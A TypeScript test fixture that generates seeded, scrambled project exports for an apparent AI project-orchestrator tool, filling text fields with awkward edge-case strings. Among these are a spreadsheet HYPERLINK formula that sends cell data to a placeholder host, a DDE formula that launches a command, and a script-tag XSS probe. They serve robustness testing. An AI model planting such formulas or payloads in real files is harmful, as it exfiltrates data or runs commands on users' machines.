import { artifactSchemas, type StagedArtifact } from '../artifact.ts';
import { draftedArtifacts } from '../drafted-artifacts.fake.ts';
import { type Draw, drawsFrom } from '../random-revisions.fake.ts';
import type { ProjectExport } from './project-export.ts';
import type { ProjectFile } from './project-file.ts';

/** Texts that have broken files before. */
const nasty = [
  '=HYPERLINK("https://e.example/?d="&A1,"click")',
  '+1 for "quotes", commas; semicolons',
  '-2\r\nsecond line\n\n# heading\n- item',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '\tTabbed\u2028separated\u0085next',
  '<script>alert(1)</script> & <b>bold</b> ]]> {code} \\ `tick` **stars** __under__',
  'Scenario: not one\n  @tag # comment\n"""\n| a | b |',
  'Given nothing. When. Then',
  'شريط الأدوات: «حجز» أداة',
  'כלי עבודה 👩🏽‍🔧🧰 – naïve façade',
  '日本語の要件。改行も、絵文字🛠️も。',
  '[link](https://e.example) ![image](https://e.example/i.png) www.e.example a@e.example',
  '   ',
  '',
  '1. first',
  '[ ] box',
  '[Fill in: name]',
  'ends with a backslash \\',
  '𝒻𝓊𝓁𝓁 \uffff \u202eevil',
];

/** Fields that name or classify something: what they say is not free. */
const bound = new Set([
  'id',
  'kind',
  'field',
  'priority',
  'characteristic',
  'likelihood',
  'impact',
  'area',
  'key',
  'epic',
  'milestone',
  'story',
  'covers',
  'dependsOn',
  'scope',
  'buildsOn',
]);

function scrambled(value: unknown, draw: Draw): unknown {
  if (typeof value === 'string') {
    const parts = Array.from({ length: 1 + draw(2) }, () => nasty[draw(nasty.length)] ?? '');
    return draw(4) === 0 ? value : parts.join(draw(2) === 0 ? ' ' : '');
  }
  if (Array.isArray(value)) return value.map((entry) => scrambled(entry, draw));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, entry]) => [key, bound.has(key) ? entry : scrambled(entry, draw)]),
  );
}

/** A project of all stages, its references sound, its texts as bad as texts get; the same one for the same seed. */
export function scrambledProject(seed: number): ProjectExport {
  const draw = drawsFrom(seed);
  const stages = Object.entries(draftedArtifacts).map(([stage, content], index) => {
    const schema = artifactSchemas[stage as keyof typeof artifactSchemas];
    const artifact = { stage, content: schema.parse(scrambled(content, draw)) } as StagedArtifact;
    return { ...artifact, version: 1 + draw(9), approved: index % 2 === 0 };
  });
  const name = `${nasty[draw(nasty.length)]?.trim().slice(0, 60) ?? ''} X${seed}`.replace(
    /[\s\p{Cc}]+/gu,
    ' ',
  );
  return { name, exportedAt: new Date(Date.UTC(2026, 10, 27, 12, seed % 60)), stages };
}

/** The same as a file of its own. */
export function scrambledFile(seed: number): ProjectFile {
  const { name, exportedAt, stages } = scrambledProject(seed);
  return {
    format: 'ai-project-orchestrator/project',
    formatVersion: 1,
    exportedAt: exportedAt.toISOString(),
    name,
    briefs: [
      { text: 'Members borrow tools.\r\n\r\nعربي 🧰', details: {} },
      {
        text: 'Members borrow tools from the library.\n',
        details: { stack: 'Elixir', constraints: '- none\n- at all' },
      },
    ],
    stages: Object.fromEntries(
      stages.map(({ stage, version, approved, content }, index) => [
        stage,
        { version, approved, brief: index % 2, content },
      ]),
    ) as ProjectFile['stages'],
  };
}

/** A project with so many stories. */
export function largeProject(stories: number): ProjectExport {
  const project = scrambledProject(1);
  return {
    ...project,
    stages: project.stages.map((entry) => {
      if (entry.stage === 'stories')
        return {
          ...entry,
          content: { ...entry.content, stories: many(entry.content.stories, stories, 'US') },
        };
      if (entry.stage === 'prompts')
        return {
          ...entry,
          content: { ...entry.content, prompts: many(entry.content.prompts, stories, 'P') },
        };
      return entry;
    }),
  };
}

function many<T extends { readonly id: string }>(items: readonly T[], count: number, prefix: string): T[] {
  return Array.from({ length: count }, (_, index) => ({
    ...(items[index % items.length] as T),
    id: `${prefix}-${index + 1}`,
    ...('story' in (items[0] ?? {}) ? { story: `US-${index + 1}` } : {}),
  }));
}
